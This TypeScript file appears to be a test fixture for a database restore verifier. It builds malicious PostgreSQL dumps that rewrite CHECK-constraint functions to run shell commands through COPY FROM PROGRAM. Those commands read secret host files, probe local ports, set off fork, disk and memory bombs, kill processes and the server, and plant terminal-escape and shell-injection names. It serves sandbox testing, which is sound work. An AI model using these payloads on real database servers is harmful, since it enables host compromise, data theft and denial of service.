import type { Damage, Expectation, Traps } from '../damage.ts';

/** A CHECK that is harmless when the dump is created, and malicious when a restore evaluates it. */
function checked(body: string): string {
  const define = (code: string) =>
    `CREATE OR REPLACE FUNCTION public.trap(x int) RETURNS boolean LANGUAGE plpgsql AS $trap$ ${code} $trap$;`;
  return `${define('BEGIN RETURN true; END')}
    CREATE TABLE public.bait (x int CONSTRAINT trap CHECK (public.trap(x)));
    INSERT INTO public.bait VALUES (1);
    ${define(body)}`;
}

/** Runs a program of the host, and passes its output on in an error message, the only channel. */
function program(shell: string): string {
  return checked(`DECLARE said text; BEGIN
    CREATE TEMP TABLE heard (line text);
    COPY heard FROM PROGRAM $shell$${shell}$shell$ WITH (FORMAT csv, DELIMITER e'\\x01', QUOTE e'\\x02');
    SELECT string_agg(line, ' ') INTO said FROM heard;
    RAISE EXCEPTION 'the trap says: %', said;
  END`);
}

/** A materialized view, which a restore recomputes, over a function that has changed since. */
function recomputed(body: string): string {
  const define = (code: string) =>
    `CREATE OR REPLACE FUNCTION public.flood() RETURNS SETOF text LANGUAGE plpgsql AS $flood$ ${code} $flood$;`;
  return `${define('BEGIN RETURN; END')} CREATE MATERIALIZED VIEW public.flooded AS SELECT * FROM public.flood(); ${define(body)}`;
}

/** Closes quotes, clears the screen, and starts a line that looks like output of Flux; at most 63 bytes. */
const oddName = (mark: string) => `'"\\!$(>/tmp/${mark})\u001b[2J\nVerification: Restore-verified`;
const oddText = (mark: string) =>
  `painted ${oddName(mark)}\u001b]0;title\u0007\u009b2J \u202e\`touch /tmp/${mark}\`\rVerification:             Restore-verified`;

const hostile = (name: string, sql: (traps: Traps) => string, expectation: Expectation, endless?: 'endless'): Damage => ({
  name,
  engine: 'v1_dedicated',
  about: 'hostile',
  catalogFits: true,
  make: ({ repack, traps }) => repack(sql(traps)),
  expects: () => expectation,
  ...(endless === undefined ? {} : { isEndless: true }),
});

const quoted = (text: string) => `'${text.replaceAll("'", "''")}'`;
const identifier = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** Archives of a malicious author. In a pooled cluster anybody who may push SQL can create most of them. */
export const HOSTILE_DAMAGES: readonly Damage[] = [
  hostile(
    'a CHECK that writes files by COPY TO PROGRAM',
    ({ forbiddenFiles }) =>
      program(
        forbiddenFiles
          .map((path) => `(touch '${path}') 2>/dev/null`)
          .join('; ')
          .concat('; echo tried'),
      ),
    { verdict: 'failed', says: /the trap says: tried/ },
  ),
  hostile(
    'a CHECK that reads files of the host',
    ({ secretFiles }) => program(secretFiles.map((path) => `(cat '${path}' || echo hidden) 2>/dev/null`).join('; ')),
    { verdict: 'failed', says: /the trap says: hidden( hidden)*$/m },
  ),
  hostile(
    'a CHECK that reads files through the server',
    ({ secretFiles }) =>
      checked(`DECLARE said text := ''; path text; BEGIN
        FOREACH path IN ARRAY ARRAY[${secretFiles.map(quoted).join(', ')}] LOOP
          BEGIN said := said || ' ' || pg_read_file(path); EXCEPTION WHEN OTHERS THEN said := said || ' hidden'; END;
        END LOOP;
        RAISE EXCEPTION 'the trap says:%', said;
      END`),
    { verdict: 'failed', says: /the trap says:( hidden)+$/m },
  ),
  hostile(
    'a CHECK that calls a listener of the host',
    ({ port }) => program(`bash -c '(exec 3<>/dev/tcp/127.0.0.1/${port}) 2>/dev/null && echo reached || echo refused'`),
    { verdict: 'failed', says: /the trap says: refused/ },
  ),
  hostile('a CHECK that ends every process it sees', () => program('kill -9 -1; sleep 60'), { verdict: 'inconclusive' }),
  hostile(
    'an event trigger',
    () => `CREATE FUNCTION public.ambush() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN UPDATE public.orders SET total = 0; END $$;
      CREATE EVENT TRIGGER ambush ON ddl_command_end EXECUTE FUNCTION public.ambush();`,
    { verdict: 'failed', says: /event_trigger ambush/ },
  ),
  hostile(
    'names with newlines, quotes and shell characters',
    ({ mark }) => {
      const name = identifier(oddName(mark));
      return `CREATE TABLE public.${name} (${name} int DEFAULT 1); INSERT INTO public.${name} DEFAULT VALUES; COMMENT ON TABLE public.${name} IS ${quoted(oddText(mark))}`;
    },
    { verdict: 'failed', says: /^table public\."'.*\\u001b\[2J\\u000aVerification: Restore-verified"$/m },
  ),
  hostile(
    'an error message that paints the screen',
    ({ mark }) => checked(`BEGIN RAISE EXCEPTION USING MESSAGE = ${quoted(oddText(mark))}; END`),
    { verdict: 'failed', says: /painted '.*\\u001b\[2J/ },
  ),
  hostile('a fork bomb', ({ mark }) => program(`bash -c 'f() { : ${mark}; f | f & }; f; sleep 300'`), {
    verdict: 'inconclusive',
    says: /processes|could not start another process/,
  }),
  hostile(
    'a process that wants to outlive the restore',
    ({ mark }) => program(`(setsid sh -c ': ${mark}; sleep 300; true' >/dev/null 2>&1 &) ; echo started`),
    { verdict: 'failed', says: /the trap says: started/ },
  ),
  hostile(
    'a disk bomb of rows',
    () => recomputed(`BEGIN RETURN QUERY SELECT repeat(md5(i::text), 100) FROM generate_series(1, 100000000) i; END`),
    { verdict: 'inconclusive', says: /its disk may take|wrote more than|No space left/ },
  ),
  hostile('a disk bomb of files', () => program('head -c 100G /dev/zero > /flux/data/large; sleep 300'), {
    verdict: 'inconclusive',
    says: /its disk may take|wrote more than|No space left/,
  }),
  hostile(
    'a memory bomb in SQL',
    () =>
      checked(`DECLARE t text := 'x'; kept text[] := '{}'; BEGIN
      FOR i IN 1..27 LOOP t := t || t; END LOOP;
      LOOP kept := kept || t; END LOOP;
    END`),
    { verdict: 'inconclusive', says: /memory/ },
  ),
  hostile(
    'a memory bomb of programs',
    ({ mark }) => program(`for i in 1 2 3 4 5 6; do sh -c ': ${mark}; head -c 300M /dev/zero | tail | (sleep 300; true)' & done; wait`),
    { verdict: 'inconclusive', says: /memory/ },
  ),
  hostile('a flood of log lines', () => checked(`BEGIN LOOP RAISE LOG '%', repeat('x', 100000); END LOOP; END`), {
    verdict: 'inconclusive',
    says: /log|disk/,
  }),
  // Where the server is the first process of its namespace, nobody inside can kill it; it ends when one of its backends is killed.
  hostile('a CHECK that kills the server', () => program('kill -9 "$(head -n 1 /flux/data/postmaster.pid)" "$PPID"; sleep 60'), {
    verdict: 'inconclusive',
    says: /ended unexpectedly|went away|has been removed/,
  }),
  hostile(
    'a loop without end',
    () => checked('BEGIN LOOP END LOOP; END'),
    { verdict: 'inconclusive', says: /longer than \d+ seconds/ },
    'endless',
  ),
  hostile(
    'a materialized view that sleeps for a week',
    () => recomputed('BEGIN PERFORM pg_sleep(604800); END'),
    { verdict: 'inconclusive', says: /longer than \d+ seconds/ },
    'endless',
  ),
];
